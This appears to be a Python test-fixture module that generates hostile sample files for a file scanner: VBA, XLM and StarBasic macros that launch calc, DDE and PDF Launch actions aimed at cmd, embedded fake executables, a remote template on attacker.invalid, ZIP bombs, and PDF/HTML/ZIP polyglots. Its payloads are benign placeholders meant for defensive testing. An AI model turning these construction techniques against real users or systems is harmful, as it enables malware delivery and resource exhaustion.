"""Builders of hostile files: macros, active content, bombs, polyglots. Each returns bytes.

The OLE compound files are written here by a minimal writer (512-byte sectors, every stream at
least 4 KiB so none goes to the mini stream): enough for olefile and oletools to read them as
Office writes them.
"""

from __future__ import annotations

import io
import struct
import zipfile

import pikepdf
import samples

# ----------------------------------------------------------------------------- OLE files

_SECTOR = 512
_END = 0xFFFFFFFE
_FREE = 0xFFFFFFFF
_FATSECT = 0xFFFFFFFD
_NONE = 0xFFFFFFFF


def ole_file(tree: dict) -> bytes:
    """Return a compound file; ``tree`` maps names to bytes (streams) or dicts (storages)."""
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": []}]
    streams: list[tuple[int, bytes]] = []

    def add(parent: int, node: dict) -> None:
        for name, value in node.items():
            index = len(entries)
            entries.append({"name": name, "type": 2 if isinstance(value, bytes) else 1})
            entries[index]["children"] = []
            entries[parent]["children"].append(index)
            if isinstance(value, bytes):
                data = value.ljust(4096, b"\x00")  # at the mini-stream cutoff: a regular stream
                streams.append((index, data))
                entries[index]["size"] = len(value) if len(value) >= 4096 else 4096
            else:
                add(index, value)

    add(0, tree)
    directory_sectors = (len(entries) * 128 + _SECTOR - 1) // _SECTOR
    next_sector = 1 + directory_sectors
    fat = [_FATSECT] + [i + 2 for i in range(directory_sectors - 1)] + [_END]
    body = b""
    for index, data in streams:
        count = (len(data) + _SECTOR - 1) // _SECTOR
        entries[index]["start"] = next_sector
        fat += [next_sector + i + 1 for i in range(count - 1)] + [_END]
        body += data.ljust(count * _SECTOR, b"\x00")
        next_sector += count
    assert len(fat) <= 128, "one FAT sector is enough for test files"
    fat_sector = b"".join(struct.pack("<I", v) for v in fat).ljust(_SECTOR, b"\xff")
    directory = b"".join(_directory_entry(entries, i) for i in range(len(entries)))
    directory = directory.ljust(directory_sectors * _SECTOR, b"\x00")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
        + struct.pack("<I", 0)
        + b"\xff" * (108 * 4)
    )
    return header + fat_sector + directory + body


def _directory_entry(entries: list[dict], index: int) -> bytes:
    entry = entries[index]
    name = entry["name"].encode("utf-16-le") + b"\x00\x00"
    # Siblings chained on the right: a valid (if unbalanced) tree, all nodes black.
    right = _NONE
    for other in entries:
        if index in other["children"]:
            siblings = other["children"]
            position = siblings.index(index)
            right = siblings[position + 1] if position + 1 < len(siblings) else _NONE
    child = entry["children"][0] if entry["children"] else _NONE
    start = entry.get("start", _END if entry["type"] == 5 else 0)
    return (
        name.ljust(64, b"\x00")
        + struct.pack("<HBB", len(name), entry["type"], 1)
        + struct.pack("<III", _NONE, right, child)
        + bytes(16 + 4 + 16)
        + struct.pack("<IQ", start, entry.get("size", 0))
    )


def vba_project() -> bytes:
    """Return a vbaProject.bin-like compound file: PROJECT, VBA/dir, VBA/_VBA_PROJECT, code."""
    code = b'\x01\x00\x00Attribut\x00e VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc"'
    return ole_file(
        {
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n',
            "VBA": {"dir": b"\x01\x00", "_VBA_PROJECT": b"\xcc\x61", "Module1": code},
        }
    )


def ole_package_object(filename: str = "facture.exe", payload: bytes = b"MZ\x90\x00") -> bytes:
    """Return an OLE "Package" object (Ole10Native stream) embedding ``filename``."""
    name = filename.encode() + b"\x00"
    source = b"C:\\Users\\a\\" + name
    temp = b"C:\\Temp\\" + name
    native = (
        struct.pack("<H", 2)
        + name
        + source
        + struct.pack("<II", 0, 0)
        + temp
        + struct.pack("<I", len(payload))
        + payload
    )
    return ole_file({"\x01Ole10Native": struct.pack("<I", len(native)) + native})


def ole_harmless_object() -> bytes:
    """Return an embedded-object compound file with no macro and no package."""
    return ole_file({"Contents": b"chart data " * 20, "\x01CompObj": b"\x01\xfe\xff\x03"})


# ----------------------------------------------------------------------------- office packages


def docx_with_renamed_vba() -> bytes:
    """A docx whose VBA project hides under an image's name, declared nowhere."""
    return samples.docx(extra_parts={"word/media/image1.png": vba_project()})


def xlsx_with_xlm_macro_sheet() -> bytes:
    """An xlsx holding an Excel 4.0 macro sheet under an ordinary worksheet's name."""
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
        b'<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
        b'<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>'
    )
    return samples.xlsx(extra_parts={"xl/worksheets/sheet2.xml": sheet})


def docx_with_activex() -> bytes:
    """A docx with an ActiveX control: its ``ax:ocx`` part and its binary persistence."""
    control = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
        b'<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" '
        b'ax:persistence="persistStorage" '
        b'r:id="rId1" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
    )
    return samples.docx(
        extra_parts={"word/media/part1.xml": control, "word/media/part1.bin": ole_harmless_object()}
    )


def docx_with_ole_executable() -> bytes:
    return samples.docx(extra_parts={"word/embeddings/oleObject1.bin": ole_package_object()})


def docx_with_harmless_ole_object() -> bytes:
    return samples.docx(extra_parts={"word/embeddings/oleObject1.bin": ole_harmless_object()})


def docx_with_remote_template() -> bytes:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="https://attacker.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return samples.docx(extra_parts={"word/_rels/settings.xml.rels": rels})


def odf_with_parts(kind: str, parts: dict[str, bytes]) -> bytes:
    """Return an OpenDocument package with extra parts (the mimetype entry stays first)."""
    source = zipfile.ZipFile(io.BytesIO(samples.odf(kind)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odt_with_basic() -> bytes:
    module = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
        b'script:language="StarBasic">Sub Main\nShell("calc")\nEnd Sub</script:module>'
    )
    return odf_with_parts("odt", {"Basic/Standard/Module1.xml": module})


def odt_with_python_script() -> bytes:
    return odf_with_parts("odt", {"Scripts/python/run.py": b"import os\nos.system('calc')\n"})


def odt_with_basic_module_elsewhere() -> bytes:
    """A Basic module under an innocent name: found by its root element."""
    module = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<m:module xmlns:m="http://openoffice.org/2000/script" m:name="M">Sub Main\nEnd Sub'
        b"</m:module>"
    )
    return odf_with_parts("odt", {"Pictures/notes.xml": module})


def docx_with_embedded(name: str, data: bytes) -> bytes:
    return samples.docx(extra_parts={f"word/embeddings/{name}": data})


# ----------------------------------------------------------------------------- ZIP bombs


def docx_bomb(inflated_mib: int = 900, *, lie: bool = False) -> bytes:
    """A docx whose one part inflates to ``inflated_mib`` MiB of zeros, written as a stream.

    Memory stays at one MiB of zeros plus the compressed output (about 1/1000 of the size).
    With ``lie`` the headers declare 1 000 bytes for that part.
    """
    buffer = io.BytesIO(samples.docx())
    zero = bytes(1024 * 1024)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("word/media/zeros.bin", "w") as part:
            for _ in range(inflated_mib):
                part.write(zero)
    data = buffer.getvalue()
    return zip_patch_declared_size(data, "word/media/zeros.bin", 1000) if lie else data


def zip_patch_declared_size(data: bytes, name: str, size: int) -> bytes:
    """Return the ZIP with ``name``'s uncompressed size rewritten in both headers."""
    patched = bytearray(data)
    for position, entry_name in _central_records(data):
        if entry_name == name:
            struct.pack_into("<I", patched, position + 24, size)
            (local,) = struct.unpack_from("<I", patched, position + 42)
            struct.pack_into("<I", patched, local + 22, size)
    return bytes(patched)


def _central_records(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        position = archive.start_dir
    while data[position : position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, position + 28)
        yield position, data[position + 46 : position + 46 + name_length].decode()
        position += 46 + name_length + extra_length + comment_length


def docx_overlapping_entries(copies: int = 50) -> bytes:
    """A docx whose central directory points ``copies`` more entries at one compressed part."""
    data = samples.docx_with_large_part(1_000_000)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        directory_start = archive.start_dir
    records = list(_central_records(data))
    target = next(pos for pos, name in records if name == "word/media/part.bin")
    name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, target + 28)
    fixed = data[target : target + 28]
    extra_records = b""
    for index in range(copies):
        name = f"word/media/copy{index:03}.bin".encode()
        extra_records += (
            fixed + struct.pack("<HHH", len(name), 0, 0) + data[target + 34 : target + 46] + name
        )
    eocd = data.rfind(b"PK\x05\x06")
    entries, directory_size = struct.unpack_from("<HI", data, eocd + 10)
    directory = data[directory_start:eocd] + extra_records
    end = bytearray(data[eocd:])
    struct.pack_into("<HHI", end, 8, entries + copies, entries + copies, len(directory))
    return data[:directory_start] + directory + bytes(end)


# ----------------------------------------------------------------------------- PDFs


def _pdf(build) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    build(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def pdf_javascript() -> bytes:
    def build(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        )

    return _pdf(build)


def pdf_launch() -> bytes:
    def build(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))

    return _pdf(build)


def pdf_embedded_file() -> bytes:
    def build(pdf):
        pdf.attachments["facture.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")

    return _pdf(build)


def pdf_rich_media() -> bytes:
    def build(pdf):
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.RichMedia,
            Rect=[0, 0, 100, 100],
            RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary()),
        )
        pdf.pages[0].Annots = pdf.make_indirect([pdf.make_indirect(annotation)])

    return _pdf(build)


def pdf_xfa() -> bytes:
    def build(pdf):
        xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=xfa)

    return _pdf(build)


def pdf_javascript_unreferenced() -> bytes:
    """A JavaScript action that nothing references, added by an incremental update."""
    base = samples.pdf_minimal()
    with pikepdf.open(io.BytesIO(base)) as pdf:
        number = int(pdf.trailer.Size)
        root = pdf.trailer.Root.objgen[0]
    previous = int(base[base.rfind(b"startxref") + 9 :].split()[0])
    body = f"{number} 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n".encode()
    offset = len(base) + 1
    xref = len(base) + 1 + len(body)
    update = (
        f"xref\n{number} 1\n{offset:010d} 00000 n \n"
        f"trailer\n<< /Size {number + 1} /Root {root} 0 R /Prev {previous} >>\n"
        f"startxref\n{xref}\n%%EOF\n"
    ).encode()
    return base + b"\n" + body + update


def pdf_then_zip() -> bytes:
    return samples.pdf_minimal() + samples.zip_archive()


def pdf_then_html() -> bytes:
    return samples.pdf_minimal() + samples.html_document()


def pdf_with_zip_in_its_tail() -> bytes:
    """A ZIP whose end record's comment swallows the PDF's final ``%%EOF``."""
    archive = samples.zip_archive()
    pdf = samples.pdf_minimal()
    body, eof = pdf[: pdf.rfind(b"%%EOF")], b"%%EOF\n"
    patched = bytearray(archive)
    struct.pack_into("<H", patched, len(archive) - 2, len(eof))
    return body + b"\n%" + bytes(patched) + eof


# ----------------------------------------------------------------------------- polyglots and DDE


def pdf_then_html_closed_by_eof() -> bytes:
    """A web page appended to a PDF, closed by its own ``%%EOF`` (qpdf rebuilds the xref)."""
    page = b"<html><body><script>alert(document.domain)</script>" + b"x" * 3000 + b"</body></html>"
    return samples.pdf_minimal() + page + b"\n%%EOF\n"


def pdf_then_html_with_a_startxref() -> bytes:
    """Appended HTML followed by a startxref pointing back at the PDF's own table."""
    base = samples.pdf_minimal()
    previous = base[base.rfind(b"startxref") :]
    return base + b"<html><script>alert(1)</script></html>\nendobj\n" + previous


def pdf_then_zip_closed_by_eof() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("evil.exe", b"MZ" + bytes(100))
    return samples.pdf_minimal() + archive.getvalue() + b"\n%%EOF\n"


def pdf_with_stream(content: bytes) -> bytes:
    """A PDF with an uncompressed, unreferenced stream holding ``content``."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.Root.Blob = pdf.make_stream(content)
    buffer = io.BytesIO()
    pdf.save(buffer, compress_streams=False)
    return buffer.getvalue()


def pdf_with_zip_in_a_stream() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("evil.html", "<script>alert(1)</script>")
    return pdf_with_stream(archive.getvalue())


def pdf_with_html_in_a_string() -> bytes:
    """A web page in the document's title: outside every stream, a browser would render it."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.docinfo.Title = "<html><script>alert(document.domain)</script></html>"
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return buffer.getvalue()


def docx_with_document(body: str) -> bytes:
    """A docx whose word/document.xml body is ``body`` (WordprocessingML)."""
    xml = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    ).encode()
    source = zipfile.ZipFile(io.BytesIO(samples.docx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(
                info, xml if info.filename == "word/document.xml" else source.read(info)
            )
    return buffer.getvalue()


def xlsx_with_dde_link() -> bytes:
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
        '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    return samples.xlsx(extra_parts={"xl/externalLinks/externalLink1.xml": link.encode()})


def odt_with_content(body: str) -> bytes:
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
        f"<office:body><office:text><text:p>{body}</text:p></office:text></office:body>"
        "</office:document-content>"
    ).encode()
    source = zipfile.ZipFile(io.BytesIO(samples.odf("odt")))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, content if info.filename == "content.xml" else source.read(info))
    return buffer.getvalue()
